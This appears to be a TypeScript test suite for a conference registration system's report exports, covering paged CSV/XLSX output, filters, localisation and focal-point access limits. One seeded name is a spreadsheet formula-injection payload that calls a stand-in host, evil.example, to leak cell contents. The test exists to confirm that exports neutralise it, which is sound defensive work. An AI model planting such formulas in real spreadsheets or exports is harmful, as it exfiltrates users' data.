/**
 * The exports (issue 18 §5, §6), on both databases: a large set (5,200 registrations made with SQL) comes out whole,
 * each row once, read a page at a time (the number of page queries follows the number of rows, and the file starts
 * before the last page is read); CSV is formula-safe; XLSX reads back; filters narrow; a focal point gets their own
 * delegation only; each list's counts agree with counts made independently from the rows; the page and the API.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { client, createPerson, type Client } from '../../../test/helpers/actors.js';
import { buildTestApp, type TestApp } from '../../../test/helpers/app.js';
import { buildReportWorld, type World } from '../../../test/helpers/report-world.js';
import type { Ctx } from '../../platform/context.js';
import { csvStream } from '../../platform/export/index.js';
import { countryName } from '../../platform/i18n/countries.js';
import { type ListKey, LISTS, listRows, listTable } from './reports.exports.js';
import { rowsOf } from './reports.queries.js';

const BIG = 5200;

describe('reports: exports of the lists', () => {
  let t: TestApp;
  let world: World;
  let staff: Client;
  let dfp: Client;
  let participant: Client;
  let KE: number;
  let bigIds: string[];
  let own: { id: number; code: string };

  const count = async (q: ReturnType<typeof sql>) =>
    rowsOf<{ n: number }>(await t.database.db.execute(sql`select (${q})::int as n`))[0].n;
  const focalCtx = (entityId: number): Ctx =>
    t.ctx({
      actor: {
        kind: 'person',
        id: 'dfp',
        role: 'participant',
        capabilities: [],
        focalPointOf: [entityId],
        entityId: null,
        via: 'session',
      },
    });
  const csvOf = (body: string) =>
    parse(body, { bom: true, columns: true, relax_quotes: true }) as Record<string, string>[];
  async function allPages(c: Client, url: string) {
    const items: Record<string, unknown>[] = [];
    let next: string | null = null;
    let pages = 0;
    do {
      const res = await c.inject({
        method: 'GET',
        url: `${url}${next ? `&after=${encodeURIComponent(next)}` : ''}`,
      });
      assert.equal(res.statusCode, 200, `${url}: ${res.statusCode} ${res.body.slice(0, 300)}`);
      const body = res.json() as { items: Record<string, unknown>[]; next: string | null };
      items.push(...body.items);
      next = body.next;
      pages++;
    } while (next);
    return { items, pages };
  }

  before(async () => {
    t = await buildTestApp();
    world = await buildReportWorld(t.database.db, { people: 30 });
    KE = world.entityIds.KE;
    const db = t.database.db;
    const forum = world.eventIds['wsis-forum-2026'];
    // 5,200 people of Kenya's delegation, made in two statements; many share a submission instant (the keyset's tie).
    await db.execute(sql`
      insert into people (id, email, given_name, family_name, nationality, created_at, updated_at)
      select 'bulk-' || lpad(i::text, 5, '0'), 'bulk' || i || '@example.org',
        case when i = 7 then '=HYPERLINK("http://evil.example/?"&A1,"x")' else 'Bulk' || i end,
        'Person' || lpad(i::text, 5, '0'), 'KE', now(), now()
      from generate_series(1, ${BIG}) as i`);
    await db.execute(sql`
      insert into registrations (id, person_id, event_id, entity_id, mode, state, registered_by, submitted_at, updated_at)
      select 'reg-' || lpad(i::text, 5, '0'), 'bulk-' || lpad(i::text, 5, '0'), ${forum}, ${KE},
        case when i % 4 = 0 then 'remote' else 'in_person' end, 'approved', 'test',
        timestamptz '2026-04-03 08:00:00+00' + (i % 50) * interval '1 second', now()
      from generate_series(1, ${BIG}) as i`);
    bigIds = rowsOf<{ id: string }>(
      await db.execute(sql`select id from registrations where entity_id = ${KE} order by id`),
    ).map((r) => r.id);
    assert.equal(bigIds.length, BIG);
    staff = await client(t, await createPerson(t, { role: 'staff', capabilities: ['reports.view'] }));
    // The focal point's own entity: the Member State with most registrations in the world (after Kenya).
    [own] = rowsOf<{ id: number; code: string }>(
      await db.execute(sql`select e.id, e.code from registrations r join entities e on e.id = r.entity_id
        where e.id <> ${KE} group by e.id, e.code order by count(*) desc, e.id limit 1`),
    );
    dfp = await client(t, await createPerson(t, { focalPointOf: [own.id] }));
    participant = await client(t, await createPerson(t, { entityId: own.id }));
  });
  after(async () => t?.close());

  it('streams a large export page by page: every row exactly once, page queries growing with the rows', async () => {
    const read = async (list: ListKey, q: Record<string, unknown>, pageSize: number) => {
      let pages = 0;
      const ids: string[] = [];
      for await (const r of await listRows(t.ctx(), list, q, { locale: 'en', pageSize, onPage: (n) => (pages = n) }))
        ids.push(String(r.reference ?? r.person_id));
      return { ids, pages };
    };
    const all = await read('registrations', { entity: KE }, 500);
    assert.equal(all.ids.length, BIG);
    assert.deepEqual([...all.ids].sort(), bigIds, 'each registration once, none missing');
    assert.equal(all.pages, Math.ceil(BIG / 500));
    const remote = await read('registrations', { entity: KE, mode: 'remote' }, 500);
    assert.equal(remote.ids.length, BIG / 4);
    assert.equal(remote.pages, Math.ceil(BIG / 4 / 500));
    assert.ok(all.pages > remote.pages, 'more rows, more page queries (never one query for everything)');
    // Participants come by name (the people sort index), each person once.
    const people = await read('participants', { entity: KE }, 700);
    assert.equal(new Set(people.ids).size, BIG);
    assert.equal(people.pages, Math.ceil(BIG / 700));
    const names = (await read('participants', { entity: KE, nationality: 'KE' }, 1000)).ids;
    assert.equal(names[0], 'bulk-00001');
    assert.equal(names[BIG - 1], `bulk-${String(BIG).padStart(5, '0')}`);
  });

  it('the file begins before the last page is read (the writer pulls pages as it writes)', async () => {
    let pages = 0;
    const table = await listTable(
      t.ctx(),
      'registrations',
      { entity: KE },
      { locale: 'en', pageSize: 200, onPage: (n) => (pages = n) },
    );
    const stream = csvStream(table);
    const it = stream[Symbol.asyncIterator]();
    const first = await it.next();
    assert.match(String(first.value), /Reference/);
    assert.ok(pages >= 1 && pages <= 3, `only the first pages read when the file begins (${pages} of 26)`);
    stream.destroy();
  });

  it('CSV over HTTP: every row, formula-safe, columns a protocol officer reads', async () => {
    const res = await staff.inject({
      method: 'GET',
      url: `/en/reports/exports/registrations/download?format=csv&entity=${KE}`,
    });
    assert.equal(res.statusCode, 200);
    assert.match(res.headers['content-type'] as string, /text\/csv/);
    assert.match(res.headers['content-disposition'] as string, /registrations\.csv/);
    const rows = csvOf(res.body);
    assert.equal(rows.length, BIG);
    assert.deepEqual(rows.map((r) => r.Reference).sort(), bigIds);
    const evil = rows.find((r) => r.Reference === 'reg-00007')!;
    assert.equal(evil['Given name'], `'=HYPERLINK("http://evil.example/?"&A1,"x")`);
    assert.ok(evil.Name.startsWith(`'=HYPERLINK`), 'the full name too');
    assert.ok(!res.body.includes('\n"=HYPERLINK') && !res.body.includes(',"=HYPERLINK'), 'never a bare formula');
    const one = rows.find((r) => r.Reference === 'reg-00004')!;
    assert.equal(one.Organization, countryName('en', 'KE'));
    assert.equal(one['Nationality (code)'], 'KE');
    assert.equal(one.Event, 'WSIS Forum 2026');
    assert.equal(one.State, 'Approved');
    assert.equal(one.Attendance, 'Remotely');
    assert.equal(one['Submitted (Geneva time)'], '2026-04-03 10:00', 'Geneva time, summer offset');
    // In French: the organisation by its UN name in the reader's language.
    const fr = csvOf(
      (
        await staff.inject({
          method: 'GET',
          url: `/fr/reports/exports/delegations/download?format=csv&entity=${KE}`,
        })
      ).body,
    );
    assert.equal(fr.length, 1);
    assert.equal(fr[0].Organisation, countryName('fr', 'KE'));
    assert.equal(fr[0].Approuvées, String(BIG));
    assert.equal(fr[0]['Chef de délégation'] !== '', true);
  });

  it('XLSX over HTTP opens and holds the filtered rows', async () => {
    const res = await staff.inject({
      method: 'GET',
      url: `/en/reports/exports/participants/download?format=xlsx&entity=${KE}&mode=remote`,
    });
    assert.equal(res.statusCode, 200);
    assert.equal(res.rawPayload.subarray(0, 2).toString(), 'PK');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as never);
    const ws = wb.worksheets[0];
    assert.equal(ws.name, 'Participants');
    assert.equal(ws.rowCount, BIG / 4 + 1);
    const header = (ws.getRow(1).values as unknown[]).slice(1);
    assert.ok(header.includes('Name (Latin letters)') && header.includes('Honorific'));
    const modeCol = header.indexOf('Attendance') + 1;
    for (let r = 2; r <= ws.rowCount; r += 97) assert.equal(ws.getRow(r).getCell(modeCol).value, 'Remotely');
  });

  it('filters narrow the rows; each list agrees with counts made from the rows', async () => {
    const db = sql;
    const forum = world.eventIds['wsis-forum-2026'];
    const expected: Record<ListKey, number> = {
      participants: await count(
        db`select count(distinct r.person_id) from registrations r join people p on p.id = r.person_id
           where r.state = 'approved' and p.erased_at is null`,
      ),
      registrations: await count(db`select count(*) from registrations`),
      delegations: await count(
        db`select count(*) from (select distinct entity_id, event_id from registrations where entity_id is not null) x`,
      ),
      speaking: await count(db`select count(*) from speaking_requests`),
      arrivals: await count(db`select count(*) from scans where result = 'admitted'`),
    };
    for (const list of LISTS) {
      const { items, pages } = await allPages(
        staff,
        `/api/v1/reports/${list === 'speaking' ? 'speaking-requests' : list}?limit=1000`,
      );
      assert.equal(items.length, expected[list], list);
      assert.ok(pages >= 1);
      const csv = await staff.inject({ method: 'GET', url: `/ar/reports/exports/${list}/download?format=csv` });
      assert.equal(csvOf(csv.body).length, expected[list], `${list} CSV`);
    }
    // Narrowed: an event, a nationality, a region, a state, dates of arrival.
    const onlyForum = await allPages(staff, `/api/v1/reports/registrations?event=ai-for-good-2026&limit=1000`);
    assert.equal(
      onlyForum.items.length,
      await count(db`select count(*) from registrations where event_id = ${world.eventIds['ai-for-good-2026']}`),
    );
    assert.ok(onlyForum.items.every((i) => i.event_code === 'ai-for-good-2026'));
    const swiss = await allPages(staff, '/api/v1/reports/participants?nationality=CH&limit=1000');
    assert.equal(
      swiss.items.length,
      await count(
        db`select count(distinct person_id) from registrations r join people p on p.id = r.person_id
           where r.state = 'approved' and p.nationality = 'CH'`,
      ),
    );
    assert.ok(swiss.items.length > 0 && swiss.items.every((i) => i.nationality_code === 'CH'));
    const regionD = await allPages(staff, `/api/v1/reports/registrations?region=D&event=wsis-forum-2026&limit=1000`);
    assert.equal(
      regionD.items.length,
      await count(
        db`select count(*) from registrations r join people p on p.id = r.person_id
           join entities ms on ms.kind = 'member_state' and ms.code = p.nationality and ms.merged_into is null
           where ms.itu_region = 'D' and r.event_id in (select id from events where ${forum} in (id, parent_id))`,
      ),
    );
    const waiting = await allPages(staff, '/api/v1/reports/registrations?state=waitlisted&limit=1000');
    assert.ok(waiting.items.length > 0 && waiting.items.every((i) => i.state === 'On the waiting list'));
    const day = await allPages(staff, '/api/v1/reports/arrivals?from=2026-07-07&to=2026-07-07&limit=1000');
    assert.equal(
      day.items.length,
      await count(
        db`select count(*) from scans where result = 'admitted'
           and scanned_at >= timestamptz '2026-07-07 00:00:00+02' and scanned_at < timestamptz '2026-07-08 00:00:00+02'`,
      ),
    );
    assert.ok(
      day.items.every((i) => String(i.scanned_at).startsWith('2026-07-07T')),
      'ISO, Geneva offset',
    );
    // A small page size walks the same rows through cursors.
    const paged = await allPages(staff, `/api/v1/reports/registrations?entity=${KE}&mode=remote&limit=333`);
    assert.equal(paged.pages, Math.ceil(BIG / 4 / 333));
    assert.equal(new Set(paged.items.map((i) => i.reference)).size, BIG / 4);
    // A state of another list, a spoiled cursor: said, not obeyed.
    assert.equal(
      (await staff.inject({ method: 'GET', url: '/api/v1/reports/speaking-requests?state=approved' })).statusCode,
      400,
    );
    assert.equal(
      (await staff.inject({ method: 'GET', url: '/api/v1/reports/registrations?after=nope' })).statusCode,
      400,
    );
  });

  it('a focal point gets their own delegation only, on the server', async () => {
    const mine = own.id;
    for (const url of [
      `/en/reports/exports/registrations/download?format=csv&entity=${KE}`,
      `/api/v1/reports/registrations?entity=${KE}`,
      `/api/v1/reports/arrivals?entity=${KE}&format=xlsx`,
      `/en/reports/exports/participants?entity=${KE}`,
    ])
      assert.equal((await dfp.inject({ method: 'GET', url })).statusCode, 403, url);
    const rows = csvOf(
      (await dfp.inject({ method: 'GET', url: '/en/reports/exports/registrations/download?format=csv' })).body,
    );
    assert.equal(
      rows.length,
      await count(
        sql`select count(*) from registrations r join people p on p.id = r.person_id where r.entity_id = ${mine}`,
      ),
    );
    assert.ok(rows.length > 0, 'their rows');
    assert.deepEqual([...new Set(rows.map((r) => r.Organization))], [countryName('en', own.code)]);
    for (const list of LISTS) {
      for await (const r of await listRows(focalCtx(mine), list, {}, { locale: 'en' }))
        assert.equal(r.entity_id, mine, `${list}: only their own entity`);
    }
    const delegations = await allPages(dfp, '/api/v1/reports/delegations?limit=50');
    assert.ok(delegations.items.length > 0, 'their delegations');
    assert.deepEqual([...new Set(delegations.items.map((d) => d.entity_id))], [mine]);
    assert.equal((await participant.inject({ method: 'GET', url: '/api/v1/reports/registrations' })).statusCode, 403);
    assert.equal((await t.app.inject({ method: 'GET', url: '/api/v1/reports/registrations' })).statusCode, 401);
    assert.equal(
      (await participant.inject({ method: 'GET', url: '/en/reports/exports/arrivals/download?format=csv' })).statusCode,
      403,
    );
  });

  it('the Exports page: linked from the dashboard, each list with its filters, a preview and its downloads', async () => {
    assert.match((await staff.inject({ method: 'GET', url: '/en/reports' })).body, /href="\/en\/reports\/exports"/);
    const index = await staff.inject({ method: 'GET', url: '/ar/reports/exports' });
    assert.equal(index.statusCode, 200);
    assert.match(index.body, /dir="rtl"/);
    for (const list of LISTS) assert.ok(index.body.includes(`/ar/reports/exports/${list}"`));
    const page = await staff.inject({
      method: 'GET',
      url: `/en/reports/exports/registrations?entity=${KE}&mode=remote`,
    });
    assert.equal(page.statusCode, 200);
    const links = [...page.body.matchAll(/href="(\/en\/reports\/exports\/registrations\/download\?[^"]+)"/g)].map(
      (m) => new URLSearchParams(m[1].split('?')[1].replace(/&amp;/g, '&')),
    );
    assert.deepEqual(
      links.map((l) => [l.get('entity'), l.get('mode'), l.get('format')]),
      [
        [String(KE), 'remote', 'csv'],
        [String(KE), 'remote', 'xlsx'],
      ],
    );
    assert.match(page.body, /rel="next"/);
    assert.equal((page.body.match(/<tr>/g) ?? []).length, 26, 'a header and 25 rows');
    const arrivals = await staff.inject({ method: 'GET', url: '/en/reports/exports/arrivals?from=nope' });
    assert.equal(arrivals.statusCode, 200);
    assert.match(arrivals.body, /aria-invalid="true"/);
    assert.ok(!arrivals.body.includes('name="state"'), 'arrivals have no state');
    const own = await dfp.inject({ method: 'GET', url: '/en/reports/exports/participants' });
    assert.equal(own.statusCode, 200);
    assert.match(own.body, /Only your own delegation is listed/);
    assert.ok(!own.body.includes(`value="${KE}"`), 'no other entity to choose');
    const api = (await t.app.inject({ method: 'GET', url: '/api/openapi.json' })).json() as {
      paths: Record<string, unknown>;
    };
    for (const p of ['participants', 'registrations', 'delegations', 'speaking-requests', 'arrivals'])
      assert.ok(api.paths[`/api/v1/reports/${p}`], p);
  });
});
